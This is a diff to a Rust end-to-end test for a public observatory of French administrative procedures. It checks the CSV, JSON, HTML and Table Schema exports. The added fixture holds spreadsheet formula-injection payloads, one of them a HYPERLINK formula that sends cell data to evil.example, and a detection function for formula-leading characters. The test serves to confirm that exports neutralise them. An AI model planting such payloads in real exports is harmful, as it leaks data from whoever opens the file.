@@ -1,8 +1,11 @@
 //! The public observatory end to end (DESIGN §12, issue 11), on both stores: votes posted through
 //! real links for several démarches, flushed, then a day boundary (the observatory's window ends
 //! yesterday) → `/observatoire`, its CSV and JSON, and the public démarche page show the right
-//! counts, indexes, colours, the « at least 100 avis » rule and the declared criteria. Plus the
-//! operator's identity and the privacy notice on the citizen form (DESIGN §13).
+//! counts, indexes, colours, the « at least 100 avis » rule and the declared criteria. Démarches
+//! whose name or administration an attacker began with a formula character (issue 19, item 3)
+//! come out of the CSV as text a spreadsheet never evaluates, and the CSV matches its Table Schema
+//! cell by cell. Plus the operator's identity and the privacy notice on the citizen form
+//! (DESIGN §13).
 
 mod common;
 
@@ -22,6 +25,95 @@ const SCENARIO: [(i64, &str, &str); 4] = [
     (3, "Inscription sur les listes électorales", "Ministère de l'Intérieur"),
     (4, "Ancienne démarche", "ANTS"),
 ];
+
+/// Démarches named by an attacker, (id, name, administration): each begins with a character
+/// that starts a spreadsheet formula. Written straight into the store, as rows made before the
+/// console refused such names are.
+const HOSTILE: [(i64, &str, &str); 6] = [
+    (11, "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez ici\")", "+33 Agence"),
+    (12, "+Carte grise", "=1+1"),
+    (13, "-Permis de conduire", "-Préfecture"),
+    (14, "@SUM(A1:A9)", "@Mairie"),
+    (15, "\tTabulation", "\tAgence"),
+    (16, "\rRetour chariot", "\rCaisse"),
+];
+
+/// What a spreadsheet may read as the start of a formula (DESIGN §12), written out here rather
+/// than taken from the server's code.
+fn starts_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// `s` as an SQL expression of either store: quoted, tabs and carriage returns spelled with
+/// `chr` (PostgreSQL) or `char` (SQLite).
+fn sql_text(db_url: &str, s: &str) -> String {
+    let chr = if db_url.starts_with("sqlite") { "char" } else { "chr" };
+    let mut parts = Vec::new();
+    let mut literal = String::new();
+    for c in s.chars() {
+        if c == '\t' || c == '\r' {
+            parts.push(format!("'{}'", literal.replace('\'', "''")));
+            literal.clear();
+            parts.push(format!("{chr}({})", c as u32));
+        } else {
+            literal.push(c);
+        }
+    }
+    parts.push(format!("'{}'", literal.replace('\'', "''")));
+    parts.join(" || ")
+}
+
+/// Checks `cell` of a CSV against its Table Schema `field`; `false` when it is a missing value.
+fn check_cell(field: &serde_json::Value, cell: &str, schema: &serde_json::Value) -> bool {
+    let name = field["name"].as_str().unwrap();
+    let constraints = &field["constraints"];
+    if schema["missingValues"].as_array().unwrap().iter().any(|m| m == cell) {
+        assert_ne!(constraints["required"], true, "{name}: a required cell is empty");
+        return false;
+    }
+    let within = |v: f64| {
+        if let Some(min) = constraints["minimum"].as_f64() {
+            assert!(v >= min, "{name}: {v} under its minimum {min}");
+        }
+        if let Some(max) = constraints["maximum"].as_f64() {
+            assert!(v <= max, "{name}: {v} over its maximum {max}");
+        }
+    };
+    match field["type"].as_str().unwrap() {
+        "integer" => {
+            within(cell.parse::<i64>().unwrap_or_else(|_| panic!("{name}: {cell:?} is not an integer")) as f64)
+        }
+        "number" => {
+            let v: f64 = cell.parse().unwrap_or_else(|_| panic!("{name}: {cell:?} is not a number"));
+            assert!(v.is_finite(), "{name}: {cell:?}");
+            within(v);
+        }
+        "boolean" => {
+            let allowed: Vec<&serde_json::Value> = field["trueValues"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .chain(field["falseValues"].as_array().unwrap())
+                .collect();
+            assert!(allowed.iter().any(|v| *v == cell), "{name}: {cell:?} is not one of {allowed:?}");
+        }
+        "date" => {
+            chrono::NaiveDate::parse_from_str(cell, "%Y-%m-%d")
+                .unwrap_or_else(|_| panic!("{name}: {cell:?} is not a date"));
+        }
+        "string" => {
+            if field["format"] == "uri" {
+                let uri: hyper::Uri = cell.parse().unwrap_or_else(|_| panic!("{name}: {cell:?} is not a URI"));
+                assert!(uri.scheme().is_some() && uri.host().is_some(), "{name}: {cell:?} is not an absolute URI");
+            }
+        }
+        other => panic!("{name}: type {other} unexpected"),
+    }
+    if let Some(values) = constraints["enum"].as_array() {
+        assert!(values.iter().any(|v| v == cell), "{name}: {cell:?} is not one of {values:?}");
+    }
+    true
+}
 
 fn vote_of_1(key: &str, i: usize) -> String {
     let sat = if i < 90 {
@@ -48,6 +140,20 @@ async fn scenario(db_url: &str, dir: &std::path::Path) {
         }
         cli(dir, db_url, &args);
     }
+    let mut rename = String::new();
+    for (id, name, admin) in HOSTILE {
+        cli(dir, db_url, &["demarche", "add", "--id", &id.to_string(), "--name", "Nom provisoire"]);
+        rename += &format!(
+            "UPDATE demarche SET name = {}, administration = {} WHERE id = {id};",
+            sql_text(db_url, name),
+            sql_text(db_url, admin)
+        );
+    }
+    // A negative declared volume (the command line took one until now) reads as undeclared.
+    rename += "UPDATE demarche SET volume_annuel = -5 WHERE id = 13;";
+    // Declared criteria, so that every column of the CSV has a cell to check against the schema.
+    rename += "UPDATE demarche SET support_qualite = true, disponibilite = false, en_ligne = 'non' WHERE id = 12;";
+    exec_sql(db_url, &rename).await;
     // What porteurs declared on their « Fiche », and démarche 1's own privacy notice.
     exec_sql(
         db_url,
@@ -145,13 +251,16 @@ async fn scenario(db_url: &str, dir: &std::path::Path) {
     let r3 = row(3);
     assert!(r3.contains(">0<") && r3.contains("À venir"), "{r3}");
     assert!(!html.contains("/Demarches/4\""), "an inactive démarche is not listed");
-    // Default order: volume (declared first), then avis.
+    // Default order: volume (declared first), then avis. (The hostile démarches, without avis
+    // nor volume, are left out of these orders.)
     let order = |html: &str| -> Vec<i64> {
         html.split("<th scope=\"row\"><a href=\"/Demarches/")
             .skip(1)
             .map(|s| s.split('"').next().unwrap().parse().unwrap())
+            .filter(|id| *id < 10)
             .collect()
     };
+    assert!(html.contains("=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1"), "listed, escaped");
     assert_eq!(order(&html), [1, 2, 3]);
     let sorted = text(&get(&server.url("/observatoire?tri=avis&ordre=asc"), &[]).await.2);
     assert_eq!(order(&sorted), [3, 2, 1]);
@@ -171,9 +280,12 @@ async fn scenario(db_url: &str, dir: &std::path::Path) {
     assert_eq!(headers["content-type"], "text/csv; charset=utf-8");
     let mut csv = csv::Reader::from_reader(&body[..]);
     let columns: Vec<String> = csv.headers().unwrap().iter().map(String::from).collect();
-    assert_eq!(columns, widget_server::console::pages::observatoire::CSV_COLUMNS);
+    assert_eq!(columns, widget_server::console::open_data::CSV_COLUMNS);
     let rows: Vec<std::collections::HashMap<String, String>> = csv.deserialize().map(Result::unwrap).collect();
-    assert_eq!(rows.iter().map(|r| r["demarche_id"].as_str()).collect::<Vec<_>>(), ["1", "2", "3"]);
+    assert_eq!(
+        rows.iter().map(|r| r["demarche_id"].as_str()).collect::<Vec<_>>(),
+        ["1", "2", "3", "11", "12", "13", "14", "15", "16"]
+    );
     let c1 = &rows[0];
     assert_eq!(
         [&c1["nombre_avis"], &c1["statut"], &c1["satisfaction_indice"], &c1["facilite_indice"], &c1["clarte_indice"]],
@@ -187,6 +299,50 @@ async fn scenario(db_url: &str, dir: &std::path::Path) {
         ["99", "insuffisant", ""]
     );
     assert_eq!([&rows[2]["nombre_avis"], &rows[2]["statut"]], ["0", "a_venir"]);
+
+    // Formulas: no cell of the file begins with a character that starts one, and each hostile
+    // text is still there, behind the apostrophe a spreadsheet shows as text.
+    let records: Vec<csv::StringRecord> = csv::Reader::from_reader(&body[..]).records().map(Result::unwrap).collect();
+    for record in &records {
+        for cell in record {
+            assert!(!starts_formula(cell), "a cell a spreadsheet would evaluate: {cell:?} in {record:?}");
+        }
+    }
+    for (id, name, admin) in HOSTILE {
+        let row = rows.iter().find(|r| r["demarche_id"] == id.to_string()).unwrap();
+        assert_eq!(row["nom"], format!("'{name}"), "démarche {id}");
+        assert_eq!(row["administration"], format!("'{admin}"), "démarche {id}");
+    }
+    let r13 = rows.iter().find(|r| r["demarche_id"] == "13").unwrap();
+    assert_eq!(r13["volume_annuel"], "", "a negative volume is not declared");
+
+    // The Table Schema describes exactly these columns, in order, cached like the CSV; every
+    // non-empty cell of the file parses as its field's type, within its constraints.
+    let csv_cache = headers["cache-control"].to_str().unwrap().to_string();
+    let (status, schema_headers, schema_body) = get(&server.url("/observatoire.schema.json"), &[]).await;
+    assert_eq!(status, 200);
+    assert_eq!(schema_headers["content-type"], "application/json");
+    assert_eq!(schema_headers["cache-control"], csv_cache.as_str());
+    assert!(schema_headers.get("set-cookie").is_none() && schema_headers.get("etag").is_some());
+    let schema: serde_json::Value = serde_json::from_slice(&schema_body).unwrap();
+    let fields = schema["fields"].as_array().unwrap();
+    let names: Vec<&str> = fields.iter().map(|f| f["name"].as_str().unwrap()).collect();
+    assert_eq!(names, columns, "the schema's fields are the CSV's header, column for column");
+    for f in fields {
+        assert!(!f["title"].as_str().unwrap().is_empty() && !f["description"].as_str().unwrap().is_empty(), "{f}");
+    }
+    let mut checked = vec![0; fields.len()];
+    for record in &records {
+        assert_eq!(record.len(), fields.len());
+        for (i, (field, cell)) in fields.iter().zip(record).enumerate() {
+            checked[i] += usize::from(check_cell(field, cell, &schema));
+        }
+    }
+    for (field, n) in fields.iter().zip(&checked) {
+        assert!(*n > 0, "no cell of {} was checked", field["name"]);
+    }
+    let ids: std::collections::HashSet<&str> = records.iter().map(|r| &r[0]).collect();
+    assert_eq!(ids.len(), records.len(), "demarche_id is unique");
 
     // The JSON.
     let (status, _, body) = get(&server.url("/observatoire.json"), &[]).await;
@@ -202,7 +358,14 @@ async fn scenario(db_url: &str, dir: &std::path::Path) {
     assert_eq!(j1["compatible_mobile"], "non");
     assert!(j1["disponibilite"].is_null());
     assert!(doc["demarches"][1]["satisfaction_indice"].is_null(), "under 100 avis: no index");
-    assert_eq!(doc["demarches"].as_array().unwrap().len(), 3);
+    let listed = doc["demarches"].as_array().unwrap();
+    assert_eq!(listed.len(), 3 + HOSTILE.len());
+    // The JSON is for programs: the texts as written.
+    for ((id, name, admin), j) in HOSTILE.iter().zip(&listed[3..]) {
+        assert_eq!((j["demarche_id"].as_i64(), j["nom"].as_str()), (Some(*id), Some(*name)));
+        assert_eq!(j["administration"].as_str(), Some(*admin));
+    }
+    assert!(listed[5]["volume_annuel"].is_null(), "démarche 13's negative volume");
 
     // The public page of démarche 1 matches, without comments or porteurs.
     let (status, headers, body) = get(&server.url("/Demarches/1"), &[]).await;
